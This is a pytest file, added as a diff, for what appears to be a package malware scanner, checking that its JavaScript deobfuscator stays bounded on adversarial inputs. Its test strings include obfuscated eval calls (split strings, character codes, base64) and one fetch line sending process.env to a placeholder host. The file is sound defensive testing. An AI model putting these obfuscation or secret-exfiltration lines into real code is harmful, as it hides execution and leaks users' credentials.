@@ -1,0 +1,84 @@
+"""Normaliser bombs: deep nesting, 100k concatenations, huge base64, table blow-up. Every bound
+is asserted by counts and sizes (never by timing): folding stops, the surface is still read."""
+
+from __future__ import annotations
+
+import base64
+
+from chainwatch.analysis import normalize as N
+from chainwatch.analysis.chains import find_chains
+from chainwatch.analysis.engine import Engine
+from chainwatch.analysis.rules import load_rules
+from chainwatch.model import PackageFile
+
+ENGINE = Engine(load_rules())
+
+
+def test_100k_concatenations_fold_without_recursion() -> None:
+    src = ("x = " + " + ".join(["'a'"] * 100_000) + ";\n").encode()
+    out = N.normalize(src)
+    # the result is longer than one folded string may be: left as it is, and bounded work
+    assert out.folds <= N.MAX_FOLDS + 1
+    assert len(out.text) <= len(src) + N.MAX_GROWTH
+
+
+def test_long_concatenation_below_the_string_bound_folds() -> None:
+    src = ("x = " + " + ".join(["'ab'"] * 5_000) + ";").encode()
+    assert N.normalize(src).text == b'x = "' + b"ab" * 5_000 + b'";'
+
+
+def test_deep_nesting_hits_the_depth_bound() -> None:
+    depth = N.MAX_DEPTH * 2
+    src = ("x = " + "(" * depth + "'a' + 'b'" + ")" * depth + " + 'c';\n"
+           + "global['ev' + 'al'](c);\n").encode()
+    out = N.normalize(src)
+    assert any("depth" in limit for limit in out.limits)
+    found = ENGINE.scan_file(PackageFile("index.js", src))
+    assert "CW-NORMALIZE-LIMIT" in {f.rule for f in found}
+    assert "CW-EVAL-DYNAMIC" in {f.rule for f in found}  # the rest of the file still folds
+
+
+def test_very_deep_nesting_is_not_searched_quadratically() -> None:
+    depth = 20_000
+    src = ("x = " + "(" * depth + "'a' + 'b'" + ")" * depth + ";\n"
+           + "global['ev' + 'al'](c);\n").encode()
+    out = N.normalize(src)
+    assert b"eval(c)" in out.text  # matches start at most MAX_QUERY_DEPTH deep
+    assert out.folds < 100
+
+
+def test_huge_base64_is_not_decoded() -> None:
+    blob = base64.b64encode(b"console.log(1);" * 200_000).decode()  # about 4 MB
+    src = f"eval(Buffer.from('{blob}', 'base64').toString())".encode()
+    out = N.normalize(src)
+    assert len(out.text) <= len(src) + N.MAX_GROWTH
+    assert b"console.log(1);console.log(1);" not in out.text
+
+
+def test_binary_base64_is_not_decoded() -> None:
+    src = b"x = Buffer.from('" + base64.b64encode(bytes(range(256))) + b"', 'base64')"
+    assert N.normalize(src).text == src
+
+
+def test_table_lookups_cannot_blow_up_the_view() -> None:
+    big = "A" * 30_000
+    src = (f"var t = ['{big}'];\nvar s = 'x' + 'y';\n" + "f(t[0]);\n" * 1_000).encode()
+    assert len(src) <= N.FULL_BYTES
+    out = N.normalize(src)
+    assert len(out.text) <= len(src) + N.MAX_GROWTH + 40_000
+    assert any("larger" in limit for limit in out.limits)
+
+
+def test_many_windows_in_a_large_file_are_bounded() -> None:
+    chunk = "var q = String.fromCharCode(101, 118, 97, 108);" + " " * 5_000 + "\n"
+    src = (chunk * 200).encode()
+    assert len(src) > N.FULL_BYTES
+    out = N.normalize(src)
+    assert any(str(N.MAX_WINDOWS) in limit for limit in out.limits)
+    assert out.text.count(b'"eval"') == N.MAX_WINDOWS
+
+
+def test_chain_analysis_is_bounded_by_nodes() -> None:
+    src = ("var a = 1;\n" * 60_000 + "fetch('https://x.invalid', {body: process.env});\n").encode()
+    assert len(src) > 128 * 1024
+    assert find_chains(src) == []  # too large: not followed (the rules still read the file)
